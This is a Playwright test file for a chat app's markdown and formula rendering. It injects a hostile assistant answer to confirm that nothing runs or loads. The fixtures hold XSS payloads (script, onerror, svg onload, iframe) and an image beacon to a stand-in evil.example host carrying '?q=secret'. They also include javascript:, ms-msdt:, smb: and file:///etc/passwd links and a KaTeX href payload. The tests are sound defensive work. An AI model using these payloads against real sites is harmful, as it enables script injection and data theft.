// Answers are hostile input. A model cannot be made to write these, so they are put into the database between two starts.
import { join } from "node:path";
import Database from "better-sqlite3";
import { answers, send, sidebar, waitUntilDone } from "./chat.ts";
import { expect, test, type ConclaveApp } from "./conclaveApp.ts";
import { choose, picture, violations } from "./looks.ts";

const hostile = `# Heading

<script>window.hacked = "script"</script>
<img src="https://evil.example/pixel.png" onerror="window.hacked = 'onerror'">
<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<svg onload="window.hacked = 'svg'"></svg>

![remote](https://evil.example/image.png?q=secret) ![inline](data:image/svg+xml;base64,PHN2Zz4=)

[script link](javascript:window.hacked='link') [share](smb://evil.example/x) [tool](ms-msdt:/id) [file](file:///etc/passwd)

[a good link](https://example.org/path?a=1) and https://example.com/bare

| a | b |
| - | - |
| 1 | 2 |

\`\`\`html
<b onclick="window.hacked = 'code'">code</b>
\`\`\`

The end.`;

async function showHostileAnswer(app: ConclaveApp) {
  return showAnswer(app, hostile);
}

async function showAnswer(app: ConclaveApp, text: string) {
  await waitUntilDone(app.page, await send(app.page, "Who are you?"));
  const page = await app.restart(() => {
    const database = new Database(join(app.dataFolder, "conclave.sqlite"));
    const { changes } = database
      .prepare(
        "UPDATE message_parts SET text = ? WHERE message_id IN (SELECT id FROM messages WHERE role = 'assistant')",
      )
      .run(text);
    database.close();
    expect(changes).toBe(1);
  });
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  await sidebar(page).getByRole("listitem").first().getByRole("button").first().click();
  const answer = answers(page).first();
  await expect(answer).toContainText("The end.");
  return { page, answer, requests };
}

test("raw HTML is shown as text, nothing remote loads, nothing runs", async ({ conclaveApp }) => {
  const { page, answer, requests } = await showHostileAnswer(conclaveApp);
  const words = answer.locator(".markdown");
  await expect(words).toContainText("<script>");
  await expect(words.locator("script, img, iframe, style, svg[onload], object, embed, form, a[href]")).toHaveCount(0);
  await expect(words.getByRole("heading", { name: "Heading" })).toBeVisible();
  await expect(words.getByRole("cell", { name: "2" })).toBeVisible();
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(requests.filter((url) => /evil|data:/.test(url))).toEqual([]);
});

test("only plain links are links, and only a yes to the question opens one", async ({ conclaveApp }) => {
  const { answer } = await showHostileAnswer(conclaveApp);
  for (const name of ["script link", "share", "tool", "file"]) {
    await expect(answer.getByRole("button", { name, exact: true })).toHaveCount(0);
    await expect(answer.getByRole("link", { name, exact: true })).toHaveCount(0);
  }
  const click = () => answer.getByRole("button", { name: "a good link" }).click();
  expect(await conclaveApp.running.answerLink(click, "cancel")).toEqual([]);
  expect(await conclaveApp.running.answerLink(click, "open")).toEqual(["https://example.org/path?a=1"]);
});

const formulas = String.raw`Inline \(a^2 + b^2\) and $\frac{1}{2}$, for $5 and $10.

\[
\int_0^1 x\,dx = \frac{1}{2}
\]

$$ \def\a{\a\a}\a $$

$$ \href{javascript:window.hacked='math'}{x} \nosuchthing $$

~~~ts
// A comment
const answer: number = 42; // "text"
export function double(value: number): string { return "twice " + value; }
~~~

The end.`;

test("formulas are drawn, hostile ones stay their source, and code has colours", async ({ conclaveApp }) => {
  const { page, answer, requests } = await showAnswer(conclaveApp, formulas);
  await expect(answer.locator(".katex")).toHaveCount(3);
  await expect(answer.locator(".katex-display")).toHaveCount(1);
  await expect(answer).toContainText("for $5 and $10.");
  await expect(answer.locator("code", { hasText: "nosuchthing" })).toBeVisible();
  await expect(answer.locator("code", { hasText: "def" }).first()).toBeVisible();
  expect(await answer.locator(".katex a[href], .katex img").count()).toBe(0);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  // Fonts are the app's own.
  await expect.poll(() => page.evaluate(() => document.fonts.check("16px KaTeX_Main"))).toBe(true);
  expect(requests.filter((url) => !url.startsWith(conclaveApp.running.origin))).toEqual([]);
  const coloured = () =>
    page.evaluate(() =>
      ["comment", "keyword", "string-expression", "constant"].map(
        (kind) => CSS.highlights.get(`code-${kind}`)?.size ?? 0,
      ),
    );
  await expect.poll(async () => (await coloured()).every((count) => count > 0)).toBe(true);
  // One text node: words are found across tokens, and copying gives the code itself.
  expect(await answer.locator("pre code").evaluate((code) => code.childNodes.length)).toBe(1);
  for (const theme of ["light", "dark"] as const) {
    await choose(page, theme);
    expect(await violations(page)).toEqual([]);
    await page.screenshot({ path: picture(`rendering-${theme}.png`) });
  }
});
